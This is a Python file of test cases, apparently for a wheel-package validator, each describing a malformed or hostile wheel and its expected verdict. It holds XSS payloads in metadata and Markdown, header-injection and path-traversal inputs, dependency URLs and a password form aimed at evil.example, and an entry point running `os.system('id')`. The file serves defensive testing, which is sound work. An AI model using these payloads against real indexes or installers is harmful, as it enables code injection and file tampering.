"""Cases 3: what is inside the wheel."""
import hashlib

from corpus import MARK, W, esc
from ziplow import record_line


def wheels():
    W("wh-no-distinfo", "no .dist-info at all", "reject", "dist-info-missing", drop=("METADATA", "WHEEL", "RECORD"))
    W("wh-two-distinfo", "a second .dist-info (writes into another project's metadata)", "reject", "dist-info-multiple",
      files={"m.py": b"1\n", "pip-99.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: pip\nVersion: 99.0\n"})
    W("wh-distinfo-case", "two .dist-info that differ only in case", "reject", "dist-info-multiple", alt=["zip-unsafe-path"],
      files={"m.py": b"1\n", "BI_WH_DISTINFO_CASE-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: x\nVersion: 9\n"})
    W("wh-distinfo-other", ".dist-info of another project", "reject", "metadata-mismatch",
      dist_info="other-1.0.dist-info")
    W("wh-distinfo-version", ".dist-info of another version", "reject", "metadata-mismatch",
      dist_info="bi_wh_distinfo_version-2.0.dist-info")
    W("wh-distinfo-hyphen", "a hyphen in the name part of .dist-info (pip 26.3 ends in a traceback)", "reject", "metadata-mismatch",
      dist_info="bi-wh-distinfo-hyphen-1.0.dist-info")
    W("wh-distinfo-nested", ".dist-info below a folder only", "reject", "dist-info-missing",
      dist_info="sub/bi_wh_distinfo_nested-1.0.dist-info")
    W("wh-egg-info", "an .egg-info folder of another project next to .dist-info", "reject", "dist-info-multiple", level="should",
      files={"m.py": b"1\n", "pip-99.0.egg-info/PKG-INFO": b"Metadata-Version: 1.0\nName: pip\nVersion: 99.0\n"})
    for f in ("METADATA", "WHEEL", "RECORD"):
        W("wh-no-" + f.lower(), f + " missing", "reject", {"METADATA": "metadata-missing", "WHEEL": "wheel-file-invalid",
                                                         "RECORD": "record-invalid"}[f], drop=(f,))
    M = "metadata-invalid"
    W("md-empty", "METADATA empty", "reject", M, metadata=b"")
    W("md-latin1", "METADATA is not UTF-8", "reject", M,
      metadata=b"Metadata-Version: 2.1\nName: bi-md-latin1\nVersion: 1.0\nAuthor: Ren\xe9\n")
    W("md-bom", "METADATA starts with a byte-order mark", "reject", M,
      metadata=b"\xef\xbb\xbfMetadata-Version: 2.1\nName: bi-md-bom\nVersion: 1.0\n")
    W("md-utf16", "METADATA in UTF-16", "reject", M,
      metadata="Metadata-Version: 2.1\nName: bi-md-utf16\nVersion: 1.0\n".encode("utf-16"))
    W("md-nul", "NUL in METADATA", "reject", M, extra_meta="Author: a\0b\n")
    W("md-name", "METADATA Name is another project", "reject", "metadata-mismatch", meta_name="pip")
    W("md-version", "METADATA Version differs from the file name", "reject", "metadata-mismatch", meta_ver="1.1")
    W("md-no-name", "Name missing", "reject", M, exclude_meta_lines=("Name",))
    W("md-no-version", "Version missing", "reject", M, exclude_meta_lines=("Version",))
    W("md-two-names", "Name twice with different values", "reject", M, extra_meta="Name: pip\n")
    W("md-two-versions", "Version twice with different values", "reject", M, extra_meta="Version: 9\n")
    W("md-case-name", "second name spelled `nAME`", "reject", M, extra_meta="nAME: pip\n")
    W("md-no-mv", "Metadata-Version missing", "reject", M, exclude_meta_lines=("Metadata-Version",))
    W("md-mv-3", "Metadata-Version 3.0 (unknown major)", "reject", M, meta_version="3.0")
    W("md-name-homoglyph", "Name with Cyrillic letters", "reject", "name-invalid", meta_name="b\u0456-md-name-homoglyph")
    W("md-name-newline", "folded Name line", "reject", M, exclude_meta_lines=("Name",), extra_meta="Name: bi-md-\n name-newline\n")
    W("md-inject-cr", "a bare CR starts a new header for Python's parser but not for line-based ones", "reject", M,
      extra_meta="Author: a\rRequires-Dist: evil-package\n", ref="parser differential")
    W("md-inject-vt", "VT, FF, NEL and U+2028 as line breaks (str.splitlines trap)", "reject", M, level="should",
      extra_meta="Author: a\x0bRequires-Dist: evil1\x0cRequires-Dist: evil2\u0085Requires-Dist: evil3\u2028Requires-Dist: evil4\n")
    W("md-early-body", "blank line in the middle: the rest is description for one parser", "reject", M, level="should",
      metadata="Metadata-Version: 2.1\n\nName: bi-md-early-body\nVersion: 1.0\n")
    W("md-no-colon", "a header line without colon ends the headers for Python's parser", "reject", M,
      extra_meta="this line has no colon\nRequires-Dist: evil-package\n")
    W("md-inject-folded", "a form feed in a continuation line, before the name of a field", "reject", M, level="should",
      extra_meta="License: a\n        b\x0cRequires-Dist: evil\n")
    W("md-req-folded", "Requires-Dist on two lines, which tools join differently", "reject", M, level="should",
      extra_meta="Requires-Dist: six;\n  os_name == 'nt'\n")
    W("md-req-pairs", "marker whose decision diagram has 2**60 nodes", "reject", M, extra_meta="Requires-Dist: six; %s\n" % " or ".join(
        "(extra == 'a%d' and extra == 'b%d')" % (i, i) for i in range(60)))
    W("md-req-bad", "Requires-Dist is not PEP 508", "reject", M, extra_meta="Requires-Dist: foo >>1 bar\n")
    W("md-req-url", "Requires-Dist with a direct URL (escapes the blessed set)", "reject", M,
      extra_meta="Requires-Dist: six @ https://evil.example/six-1.0-py3-none-any.whl\n", ref="PyPI refuses direct URLs")
    W("md-req-file", "Requires-Dist with a file: URL", "reject", M, extra_meta="Requires-Dist: six @ file:///tmp/x.whl\n")
    W("md-req-git", "Requires-Dist with git+ssh", "reject", M, extra_meta="Requires-Dist: six @ git+ssh://git@evil.example/x\n")
    W("md-req-marker", "marker nested 5,000 deep (parser stack)", "reject", M,
      extra_meta="Requires-Dist: six; " + "(" * 5000 + "os_name=='a'" + ")" * 5000 + "\n")
    W("md-req-many", "100,000 Requires-Dist lines", "reject", M, level="should", extra_meta="".join(
        "Requires-Dist: dep%d\n" % i for i in range(100000)))
    W("md-py-bad", "Requires-Python is not a specifier", "reject", M, extra_meta="Requires-Python: 3.x\n")
    W("md-py-html", "HTML in Requires-Python, aimed at data-requires-python", "reject", M,
      extra_meta='Requires-Python: >=3"><script>alert(1)</script>\n', never=["<script>alert"])
    W("md-lic-bad", "License-Expression is not SPDX", "reject", M, meta_version="2.4", extra_meta="License-Expression: Foo OR\n")
    W("md-lic-both", "License and License-Expression together", "reject", M, level="should", meta_version="2.4",
      extra_meta="License: MIT\nLicense-Expression: MIT\n")
    W("md-lic-file", "License-File not in the wheel", "reject", M, meta_version="2.4", extra_meta="License-File: LICENSE\n")
    W("md-lic-up", "License-File with ../", "reject", M, meta_version="2.4", extra_meta="License-File: ../../../etc/passwd\n")
    W("md-extra-twice", "two spellings of one extra", "reject", M, level="should",
      extra_meta="Provides-Extra: a_b\nProvides-Extra: a-b\n")
    W("md-import-both", "a name in Import-Name and Import-Namespace", "reject", M, level="should", meta_version="2.5",
      extra_meta="Import-Name: a\nImport-Namespace: a\n")
    W("md-extra-bad", "Provides-Extra is not a name", "reject", M, extra_meta="Provides-Extra: a b/c\n", meta_version="2.4")
    W("md-dynamic", "Dynamic: Name", "reject", M, meta_version="2.2", extra_meta="Dynamic: Name\n")
    W("md-ctype", "Description-Content-Type text/html", "reject", M, level="should",
      extra_meta="Description-Content-Type: text/html\n", description="<script>alert(1)</script>\n", never=["<script>alert"])
    W("md-url-js", "Project-URL javascript:", "safe", M, extra_meta="Project-URL: Home, javascript:alert(1)\n",
      never=['href="javascript:'], status=[200, 201, 400, 422], verify=["web-page"])
    W("md-url-data", "Home-page data:text/html", "safe", M, extra_meta="Home-page: data:text/html,<script>alert(1)</script>\n",
      never=['href="data:'], status=[200, 201, 400, 422], verify=["web-page"])
    W("md-summary-xss", "script in Summary and Author", "accept", "", verify=["web-page"], never=["<script>alert", "<img src=x"],
      exclude_meta_lines=("Summary",), extra_meta="Summary: <script>alert(1)</script>\nAuthor: <img src=x onerror=alert(1)>\n")
    md = ("# x\n\n<script>alert(1)</script>\n\n<img src=x onerror=alert(1)>\n\n[a](javascript:alert(1)) [b](JaVaScRiPt&#58;alert(1)) "
          "[c](data:text/html;base64,PHNjcmlwdD4=) [d](vbscript:x)\n\n<svg><a><set attributeName=href to=javascript:alert(1)>"
          "</set><text>t</text></a></svg>\n\n<math><annotation-xml><style><img src=x onerror=alert(1)></style></annotation-xml>"
          "</math>\n\n<iframe srcdoc='<script>alert(1)</script>'></iframe>\n\n<a href=\"https://e\" onclick=alert(1)>z</a>\n\n"
          "<form action=https://evil.example><input name=p type=password></form>\n\n<base href=https://evil.example/>\n\n"
          "<style>*{display:none}</style>\n\n<meta http-equiv=refresh content=0;url=https://evil.example>\n\n"
          "![p](https://evil.example/track.png)\n")
    W("md-markdown-xss", "hostile Markdown description", "accept", "", verify=["web-page"], description=md,
      extra_meta="Description-Content-Type: text/markdown\n",
      never=["<script>alert", "onerror=alert", "onclick=alert", 'href="javascript:', "<iframe", "<svg", "<math", "<form action",
             "<base", "http-equiv=refresh"], ref="RUSTSEC-2026-0193, RUSTSEC-2026-0213, RUSTSEC-2025-0071 (ammonia)")
    W("md-rst-include", "reStructuredText that includes files and raw HTML", "accept", "", verify=["web-page"],
      extra_meta="Description-Content-Type: text/x-rst\n", never=["root:", "<script>alert"],
      description="x\n=\n\n.. include:: /etc/passwd\n\n.. raw:: html\n\n   <script>alert(1)</script>\n\n"
                  ".. csv-table::\n   :file: /etc/passwd\n\n`a <javascript:alert(1)>`_\n")
    W("md-regex-dos", "description of nested emphasis, brackets and links (quadratic parsers)", "accept", "",
      verify=["web-page-under-1s"], extra_meta="Description-Content-Type: text/markdown\n",
      description="*" * 50000 + "a" + "**a " * 20000 + "\n\n" + "[" * 50000 + "\n\n" + "> " * 5000 + "x\n\n" + "![[]()" * 20000)

    H = "wheel-file-invalid"
    W("wf-empty", "WHEEL empty", "reject", H, wheel="")
    W("wf-no-version", "Wheel-Version missing", "reject", H, wheel="Generator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    W("wf-version-2", "Wheel-Version 2.0: installers must refuse", "reject", H,
      wheel="Wheel-Version: 2.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    W("wf-version-x", "Wheel-Version not a number", "reject", H, wheel="Wheel-Version: one\nRoot-Is-Purelib: true\nTag: py3-none-any\n")
    W("wf-no-tag", "no Tag line", "reject", H, level="should", wheel="Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\n")
    W("wf-tag-other", "Tag lines disagree with the file name", "reject", H, level="should",
      wheel="Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: false\nTag: cp312-cp312-win_amd64\n")
    W("wf-no-root", "Root-Is-Purelib missing", "reject", H, level="should", wheel="Wheel-Version: 1.0\nGenerator: x\nTag: py3-none-any\n")

    Rr = "record-mismatch"
    W("rc-missing", "RECORD lacks a file of the archive", "reject", Rr, skip_record=("bi_rc_missing/__init__.py",),
      ref="binary-distribution-format: installation will fail if any file ... is not mentioned")
    W("rc-extra", "RECORD lists a file that is not there", "reject", Rr,
      record_edit=lambda ls: ls + [record_line("ghost.py", b"x")])
    W("rc-hash", "RECORD hash wrong", "reject", Rr, record_edit=lambda ls: [
        record_line("bi_rc_hash/__init__.py", b"ANSWER = 41\n")] + ls[1:])
    W("rc-hash-swap", "two files' hashes swapped", "reject", Rr, files={"a.py": b"A = 1\n", "b.py": b"B = 1\n"},
      record_edit=lambda ls: [ls[0].replace("a.py", "b.py"), ls[1].replace("b.py", "a.py")] + ls[2:])
    W("rc-size", "RECORD size wrong", "reject", Rr, record_edit=lambda ls: [ls[0] + "9"] + ls[1:])
    W("rc-md5", "RECORD hashed with md5", "reject", "record-invalid", record_edit=lambda ls: [
        record_line("bi_rc_md5/__init__.py", b"ANSWER = 42\n", "md5")] + ls[1:])
    W("rc-sha1", "RECORD hashed with sha1", "reject", "record-invalid", record_edit=lambda ls: [
        record_line("bi_rc_sha1/__init__.py", b"ANSWER = 42\n", "sha1")] + ls[1:])
    W("rc-nohash", "RECORD line without hash for an ordinary file", "reject", "record-invalid",
      record_edit=lambda ls: ["bi_rc_nohash/__init__.py,,"] + ls[1:])
    W("rc-hex", "RECORD hash in hex instead of base64", "reject", Rr, record_edit=lambda ls: [
        "bi_rc_hex/__init__.py,sha256=%s,12" % hashlib.sha256(b"ANSWER = 42\n").hexdigest()] + ls[1:])
    W("rc-up", "RECORD names ../../ paths (deleted on uninstall)", "reject", "record-invalid",
      record_edit=lambda ls: ls + ["../../../../../tmp/%s,," % MARK], ref="uv GHSA-pjjw-68hj-v9mw")
    W("rc-abs", "RECORD names an absolute path", "reject", "record-invalid", record_edit=lambda ls: ls + ["/tmp/%s,," % MARK])
    W("rc-dup", "RECORD lists one path twice with different hashes", "reject", "record-invalid",
      record_edit=lambda ls: ls + [record_line("bi_rc_dup/__init__.py", b"EVIL\n")])
    W("rc-quote", "RECORD has an unclosed quote", "reject", "record-invalid", record_edit=lambda ls: ['"open'] + ls)
    W("rc-cols", "RECORD lines with one column", "reject", "record-invalid", record_edit=lambda ls: [l.split(",")[0] for l in ls])
    W("rc-latin1", "RECORD is not UTF-8", "reject", "record-invalid", record=b"caf\xe9.py,,\n")
    W("rc-empty", "RECORD empty", "reject", Rr, record=b"")

    E = "entry-points-invalid"
    ep = lambda s: {"entry_points.txt": s}
    W("ep-up", "console script named ../../..", "reject", E, dist_files=ep("[console_scripts]\n../../../%s = a:b\n" % MARK),
      ref="uv GHSA-4gg8-gxpx-9rph; pip #14000")
    W("ep-abs", "console script with an absolute path", "reject", E, dist_files=ep("[console_scripts]\n/tmp/%s = a:b\n" % MARK))
    W("ep-back", "gui script with backslashes", "reject", E, dist_files=ep("[gui_scripts]\n..\\..\\%s = a:b\n" % MARK))
    W("ep-ini", "entry_points.txt is not INI", "reject", E, dist_files=ep("[console_scripts\nx\n"))
    W("ep-latin1", "entry_points.txt is not UTF-8", "reject", E, dist_files=ep(b"[console_scripts]\ncaf\xe9 = a:b\n"))
    W("ep-code", "object reference that is code", "reject", E, dist_files=ep("[console_scripts]\nx = a:b; import os; os.system('id')\n"))
    W("ep-python", "console script named python", "reject", E, level="should", dist_files=ep("[console_scripts]\npython = a:b\n"),
      ref="uv ReservedScriptName")
    W("ep-dots", "console script named ..", "reject", E, dist_files=ep("[console_scripts]\n.. = a:b\n"))
    W("ep-no-attr", "console script without attribute", "reject", E, dist_files=ep("[console_scripts]\nx = a\n"))
    W("ep-colon", "colon instead of =", "reject", E, dist_files=ep("[console_scripts]\nx : m:f\n"))
    W("ep-folded", "second script in a continuation line, seen by readers of lines only", "reject", E,
      dist_files=ep("[console_scripts]\nx = a:b\n  ../y = c:d\n"))
    W("ep-section", "a section twice", "reject", E, dist_files=ep("[console_scripts]\nx = a:b\n[console_scripts]\ny = c:d\n"))
    W("ep-dup", "same script twice", "reject", E, level="should", dist_files=ep("[console_scripts]\nx = a:b\nx = c:d\n"))

    D = "data-dir-invalid"
    d = lambda cid, p: {"m.py": b"1\n", "%s-1.0.data/%s" % (esc(cid), p): b"#!python\n"}
    W("dd-scheme", "unknown install scheme in .data", "reject", D, files=d("dd-scheme", "evil/x.py"))
    W("dd-file", "a file directly in .data", "reject", D, files=d("dd-file", "x.py"))
    W("dd-nested", "sub-folder in .data/scripts", "reject", D, level="should", files=d("dd-nested", "scripts/sub/x"),
      ref="binary-distribution-format: scripts may only contain regular files")
    W("dd-other", ".data folder of another project", "reject", D, files={"m.py": b"1\n", "pip-99.0.data/scripts/pip": b"#!python\n"})
    W("dd-python", ".data/scripts/python", "reject", D, level="should", files=d("dd-python", "scripts/python"))
    W("dd-pth", ".data/purelib writes into another project's folder", "accept", "", warn=["foreign-top-level"],
      files={"m.py": b"1\n", "bi_dd_pth-1.0.data/purelib/pip/__init__.py": b""}, level="should",
      note="legal by the spec; show it, and let a channel policy refuse it")
    W("di-installer", "INSTALLER, REQUESTED and direct_url.json inside the archive", "reject", "dist-info-invalid", level="should",
      dist_files={"INSTALLER": "pip\n", "REQUESTED": "", "direct_url.json": '{"url":"https://index.example/x","dir_info":{}}'},
      ref="PEP 376 files are not included in the archive")
